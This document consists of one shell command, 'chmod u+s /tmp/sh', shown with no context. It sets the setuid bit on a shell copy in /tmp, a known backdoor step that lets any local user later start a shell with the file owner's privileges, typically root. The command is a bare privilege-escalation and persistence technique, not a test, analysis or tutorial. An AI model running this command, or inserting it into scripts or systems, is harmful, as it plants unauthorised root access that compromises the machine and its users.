chmod u+s /tmp/sh
